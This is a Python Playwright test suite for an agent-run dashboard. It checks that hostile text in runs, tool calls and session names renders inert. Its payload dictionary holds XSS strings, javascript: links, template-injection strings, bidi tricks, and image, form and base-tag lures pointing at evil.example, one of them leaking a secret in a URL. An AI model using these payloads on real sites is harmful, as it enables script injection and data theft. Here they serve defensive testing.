"""Text of models, tools and users is text: it runs nothing, asks for nothing, and does not stop the page."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect
from tests.dashboard.conftest import OpenPage

from sessile import SqliteStorage

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "svg as an image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "frame": '<iframe src="javascript:alert(1)"></iframe><object data="https://example.com/x"></object>',
    "link": "[click](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](data:text/html,<script>alert(1)</script>)",
    "autolink": "<javascript:alert(1)> vbscript:msgbox(1)",
    "image of another host": "![all is well](https://evil.example/pixel.png?secret=4711)",
    "reference": "![a][b]\n\n[b]: https://evil.example/pixel.png",
    "style": "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
    "form": '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)></form>',
    "base": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:alert(1)",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "bidi": "invoice\u202egpj.exe \u2066\u2067hidden\u2069 \u200b\u200d",
    "control": "\x01\x1b[31mred\x1b[0m \U0001f600",
    "deep quote": ">" * 2000 + " deep",
    "deep list": "\n".join("  " * depth + "- x" for depth in range(200)),
    "many stars": "*a **b " * 3000,
    "many brackets": "[" * 5000,
    "table": "|" + "a|" * 500 + "\n|" + "-|" * 500,
    "unclosed": "```js\nalert(1)",
    "clobber": '<a id=root name=root></a><input id="main" name="cookie">',
}

DEEPEST = """() => {
  let deepest = 0;
  for (const one of document.querySelectorAll("article *")) {
    let depth = 0;
    for (let outer = one; outer; outer = outer.parentElement) depth += 1;
    deepest = Math.max(deepest, depth);
  }
  return deepest;
}"""
"""How many elements are in one another: browsers and screen readers follow them by calls of themselves."""


def check_is_text(page: Page) -> None:
    """Nothing in the page but what is ours."""
    assert (
        page.locator("article script, article iframe, article object, article form[action], article style").count() == 0
    )
    for link in page.locator("article a").all():
        href = link.get_attribute("href") or ""
        assert href.startswith(("#", "http://", "https://", "mailto:")), href
    assert page.locator("article img").count() == 0
    assert page.evaluate(DEEPEST) < 200


@pytest.mark.parametrize("kind", ["said", "called", "shown"])
def test_hostile_text_is_shown_as_text(kind: str, storage: SqliteStorage, address: str, open_page: OpenPage) -> None:
    for number, (name, text) in enumerate(HOSTILE.items()):
        if kind == "said":
            storage.add_run("s1", input=text, output=text, user_id="ada", agent="support")
        elif kind == "called":
            call = {"part_kind": "tool-call", "tool_name": text[:200], "args": {text[:50]: text}, "tool_call_id": "c"}
            returned = {"part_kind": "tool-return", "tool_name": "t", "content": text, "tool_call_id": "c"}
            thought = {"part_kind": "thinking", "content": text}
            messages = [{"kind": "response", "parts": [thought, call]}, {"kind": "request", "parts": [returned]}]
            storage.add_run("s1", messages=messages, error={"type": text, "message": text}, status="failed")
        else:
            session = f"s{number}<img src=x>\u202e"
            storage.add_run(session, input=text, agent=text[:200], user_id=f"{name}<b>\u202e")
            storage.rename(session, text[:200], user_id=f"{name}<b>\u202e")
    if kind == "shown":
        page = open_page(address)
        expect(page.get_by_role("row").nth(5)).to_be_visible()
        assert page.locator("[role=grid] img, [role=grid] b").count() == 0
        assert "\u202e" not in page.locator("[role=grid]").inner_text()
        page.locator("[role=row] a").nth(2).click()
        expect(page.locator("article")).to_be_visible()
        return
    page = open_page(f"{address}#/session/s1?run=1")
    expect(page.get_by_role("article", name="Run 1", exact=True)).to_be_visible()
    if kind == "called":
        for fold in page.locator("button.fold").all()[:80]:
            fold.click()
    page.wait_for_timeout(300)
    check_is_text(page)
    page.goto(f"{address}#/session/s1?run={len(HOSTILE)}")
    expect(page.get_by_role("article", name=f"Run {len(HOSTILE)}", exact=True)).to_be_visible()
    check_is_text(page)


def test_an_image_of_another_host_is_only_named(storage: SqliteStorage, address: str, open_page: OpenPage) -> None:
    storage.add_run("s1", input="Hi", output=HOSTILE["image of another host"])
    page = open_page(f"{address}#/session/s1")
    expect(page.get_by_text("all is well")).to_be_visible()
    expect(page.get_by_text("not loaded")).to_be_visible()


def test_a_line_of_5_mb_does_not_freeze_the_browser(storage: SqliteStorage, address: str, open_page: OpenPage) -> None:
    huge = "x" * 5_000_000
    returned = {"part_kind": "tool-return", "tool_name": "read", "content": huge, "tool_call_id": "c"}
    call = {"part_kind": "tool-call", "tool_name": "read", "args": {}, "tool_call_id": "c"}
    messages = [{"kind": "response", "parts": [call]}, {"kind": "request", "parts": [returned]}]
    storage.add_run("s1", input="Read it", output="Done", messages=messages)
    page = open_page(f"{address}#/session/s1")
    page.get_by_role("button", name="read").click()
    page.get_by_role("button", name="Load all of it (5.0 MB)").click()
    page.get_by_role("button", name="Show all (5,000,000 characters)").click()
    expect(page.get_by_role("button", name="Show more")).to_be_visible()
    assert len(page.locator("article").inner_text()) < 300_000
